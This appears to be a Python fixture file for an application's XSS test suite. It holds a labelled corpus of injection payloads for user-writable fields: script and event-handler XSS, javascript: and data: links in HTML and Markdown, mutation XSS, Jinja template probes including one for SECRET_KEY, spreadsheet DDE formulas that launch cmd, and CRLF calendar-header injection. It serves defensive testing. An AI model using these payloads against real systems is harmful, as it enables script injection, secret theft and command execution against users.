"""The attack corpus the XSS tests put through every user-writable field: script and event
handlers, attribute breaking, dangerous link schemes in HTML and Markdown, mutation XSS,
encoded variants, template injection, spreadsheet formulas and line breaks for calendars.

Each payload fits the shortest free-text column it is stored in (a display name, 80
characters); the labels name them in failure messages and in the report."""

from __future__ import annotations

PAYLOADS: dict[str, str] = {
    # Script elements.
    "script tag": "<script>alert(1)</script>",
    "script src, upper case": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script split by a script": "<scr<script>ipt>alert(1)</script>",
    "script end, script": "</script><script>alert(1)</script>",
    "Thai then script": "ฝุ่น<script>alert(1)</script>",
    # Event handlers.
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror, unclosed": "<img src=x onerror=alert(1)//",
    "svg onload": "<svg onload=alert(1)>",
    "svg/onload, no space": "<svg/onload=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "isindex onerror": "<isindex type=image src=1 onerror=alert(1)>",
    # Breaking out of an attribute, an element or a text-only element.
    "double quote then svg": '"><svg onload=alert(1)>',
    "single quote then img": "'><img src=x onerror=alert(1)>",
    "double quote handler": '" onmouseover="alert(1)" x="',
    "single quote autofocus": "' autofocus onfocus='alert(1)' x='",
    "textarea end": "</textarea><script>alert(1)</script>",
    "title end": "</title><script>alert(1)</script>",
    "CDATA end": "]]><script>alert(1)</script>",
    "CDATA section": "<![CDATA[<script>alert(1)</script>]]>",
    # Dangerous schemes in Markdown links, images and autolinks.
    "markdown javascript link": "[click](javascript:alert(1))",
    "markdown mixed-case scheme": "[click](JaVaScRiPt:alert(1))",
    "markdown entity in scheme": "[click](java&#115;cript:alert(1))",
    "markdown tab in scheme": "[click](jav&#x09;ascript:alert(1))",
    "markdown data html link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown vbscript link": "[click](vbscript:msgbox(1))",
    "markdown autolink javascript": "<javascript:alert(1)>",
    "markdown image javascript": "![x](javascript:alert(1))",
    "markdown image attribute break": '![x](x" onerror="alert(1))',
    "markdown reference link": "[click][r]\n\n[r]: javascript:alert(1)",
    # Dangerous schemes in raw HTML.
    "html javascript link": '<a href="javascript:alert(1)">x</a>',
    "html entity-encoded scheme": '<a href="&#106;avascript:alert(1)">x</a>',
    "html scheme after spaces": '<a href=" \tjavascript:alert(1)">x</a>',
    "html data link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "svg xlink javascript": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg animate href": "<svg><animate attributeName=href values=javascript:alert(1) />",
    "form action javascript": '<form action="javascript:alert(1)"><button>x</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    # Frames, plugins, base and refresh.
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object data html": '<object data="data:text/html,<script>alert(1)</script>">',
    "embed javascript": '<embed src="javascript:alert(1)">',
    "base href": '<base href="//evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # Styles.
    "style expression": '<div style="width:expression(alert(1))">x</div>',
    "style url javascript": '<p style="background:url(javascript:alert(1))">x</p>',
    "style element import": "<style>@import 'javascript:alert(1)';</style>",
    # Mutation XSS.
    "math mglyph style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template script": "<template><script>alert(1)</script></template>",
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # Encoded variants that must stay text.
    "entity-encoded script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numeric entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "javascript unicode escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "fullwidth brackets": "＜script＞alert(1)＜/script＞",
    # Template injection (Jinja and others).
    "jinja expression": "ruam{{7*7}}",
    "jinja config": "{{ config.SECRET_KEY }}{{config}}",
    "jinja statement": "{% print 7*8 %}ruam",
    "other template syntaxes": "${7*9}ruam #{7*10}ruam",
    # Spreadsheet formulas (CSV downloads).
    "formula HYPERLINK": '=HYPERLINK("http://evil.example","x")',
    "formula plus DDE": "+cmd|'/c calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    # Line breaks that try to add calendar or mail header lines.
    "calendar line injection": "x\r\nATTENDEE:mailto:evil@example.org\r\nX-RUAM:1",
}

# What template injection would render: none of these may appear in a response.
TEMPLATE_RESULTS = ("ruam49", "56ruam", "63ruam", "70ruam")
